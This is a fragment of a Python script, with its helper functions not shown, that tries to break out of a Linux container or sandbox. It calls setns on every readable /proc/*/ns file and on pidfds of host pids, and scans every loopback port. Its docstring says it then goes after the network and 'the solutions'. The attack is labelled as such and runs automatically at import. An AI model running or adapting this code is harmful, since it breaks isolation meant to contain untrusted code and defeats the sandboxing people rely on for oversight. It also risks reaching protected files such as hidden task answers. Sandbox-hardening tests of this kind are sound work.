"""setns into every namespace file it can open: /proc/1/ns/*, every visible pid's, its own
parent's, then tries the network and the solutions from wherever it landed."""
# ---- the attack ----
def attack():
    pids = ["1", "self", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]
    for pid in dict.fromkeys(pids):
        for ns in ("user", "mnt", "net", "pid", "ipc", "uts", "cgroup", "time"):
            path = f"/proc/{pid}/ns/{ns}"
            try:
                fd = os.open(path, os.O_RDONLY)
            except OSError as exc:
                _note("open " + path, exc.strerror)
                continue
            if _sys("setns " + path, "setns", fd, 0) is not None:
                _proof("setns", path)
            os.close(fd)
    # pidfd-based setns (5.8+): a pidfd of a host pid, all namespaces at once
    for pid in (1, 2, os.getppid()):
        fd = _sys(f"pidfd_open {pid}", "syscall", 434, pid, 0)
        if fd is not None:
            if _sys("setns pidfd", "setns", fd, 0x7E020000) is not None:
                _proof("setns-pidfd", pid)
    for port in range(1, 65536):  # whatever listens on the loopback of the namespace we are in
        s = socket.socket()
        s.setblocking(False)
        try:
            if s.connect_ex(("127.0.0.1", port)) in (0, errno.EINPROGRESS):
                _note("tcp", port)
                _proof("tcp", port)
        finally:
            s.close()
        if port == 2:
            r = socket.socket().connect_ex(("127.0.0.1", 1))
            _note("loopback", errno.errorcode.get(r, r))


_try("attack at import", attack)
_try("hunt", _hunt)
